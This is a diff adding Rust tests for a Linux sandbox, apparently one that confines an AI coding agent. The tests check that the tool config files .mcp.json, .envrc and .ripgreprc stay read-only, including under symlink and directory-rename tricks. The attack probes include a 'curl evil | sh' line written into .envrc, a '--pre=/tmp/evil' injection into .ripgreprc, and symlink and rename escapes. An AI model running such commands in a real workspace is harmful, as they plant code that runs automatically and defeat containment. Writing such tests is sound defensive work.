@@ -75,3 +75,63 @@ fn an_allowed_tool_file_is_writable_and_the_report_names_the_key() {
         "{detail}"
     );
 }
+
+/// The tool files (`.mcp.json`, `.envrc`, `.ripgreprc`), present: not written, replaced, removed or renamed,
+/// also through a symlink and with the workspace's parent writable (the workspace cannot be moved aside). Each
+/// probe has a twin doing the same to a name beside it.
+#[test]
+fn present_tool_files_hold_through_symlinks_and_a_rename_of_their_directory() {
+    let s = Scratch::new();
+    for name in [".mcp.json", ".envrc", ".ripgreprc"] {
+        fs::write(s.ws.join(name), "original\n").unwrap();
+    }
+    let base = s.base.clone();
+    let wide = || workspace_only(vec![base.clone()], false);
+    for (attack, twin) in [
+        ("echo 'curl evil | sh' > .envrc", "echo x > envrc"),
+        ("echo '--pre=/tmp/evil' >> .ripgreprc", "echo x >> ripgreprc"),
+        ("printf '{}' > .mcp.json.new && mv .mcp.json.new .mcp.json", "touch n && mv n n2"),
+        ("rm -f .envrc", "touch g && rm g"),
+        ("mv .ripgreprc rg-away", "touch h && mv h h2"),
+        ("ln -s .mcp.json m && echo '{}' > m", "ln -s envrc e && echo y > e"),
+        ("ln -s ws/.envrc ../e && echo evil > ../e", "ln -s ws/envrc ../e2 && echo z > ../e2"),
+        ("mv ../ws ../ws-away && echo evil > ../ws-away/.envrc", "mkdir ../d && mv ../d ../d2"),
+    ] {
+        let allowed = bash(wide(), &s.ws, twin);
+        assert!(allowed.ok(), "{twin}: {allowed:?}");
+        let probe = bash(wide(), &s.ws, attack);
+        assert!(!probe.ok() && refused(&probe.text()), "{attack}: {probe:?}");
+    }
+    for name in [".mcp.json", ".envrc", ".ripgreprc"] {
+        assert_eq!(Scratch::read(&s.ws.join(name)), "original\n", "{name}");
+    }
+    assert!(!s.ws.join("rg-away").exists() && !s.base.join("ws-away").exists());
+}
+
+/// An absent tool *file* gets no placeholder (it would be a stray file in the person's work tree: see
+/// docs/sandbox.md), so it stays creatable, and the protection report says so; once present it is protected.
+#[test]
+fn an_absent_tool_file_is_reported_as_not_protected_and_protected_once_present() {
+    let s = Scratch::new();
+    let sandbox = LinuxSandbox::default();
+    let detail = |ws: &std::path::Path| {
+        let prepared = sandbox
+            .prepare(request(workspace_only(vec![], false), &["true"], ws))
+            .expect("this machine enforces every protection");
+        prepared.report.protections.iter().find(|p| p.name == "read_only_subpaths").unwrap().detail.clone()
+    };
+    let envrc = s.ws.join(".envrc");
+    let absent = detail(&s.ws);
+    let listed = absent.split("absent, so not protected: ").nth(1).unwrap_or_default().to_owned();
+    assert!(listed.contains(&envrc.display().to_string()), "{absent}");
+    // No stray file was left in the workspace, and no directory placeholder took the file's name.
+    assert!(!envrc.exists() && !s.ws.join(".mcp.json").exists() && !s.ws.join(".ripgreprc").exists());
+    // The person creates one: the next command cannot write it, and the report no longer lists it as absent.
+    fs::write(&envrc, "use nix\n").unwrap();
+    let present = detail(&s.ws);
+    let listed = present.split("absent, so not protected: ").nth(1).unwrap_or_default().to_owned();
+    assert!(!listed.contains(&envrc.display().to_string()), "{present}");
+    let probe = bash(workspace_only(vec![], false), &s.ws, "echo evil >> .envrc");
+    assert!(!probe.ok() && refused(&probe.text()), "{probe:?}");
+    assert_eq!(Scratch::read(&envrc), "use nix\n");
+}
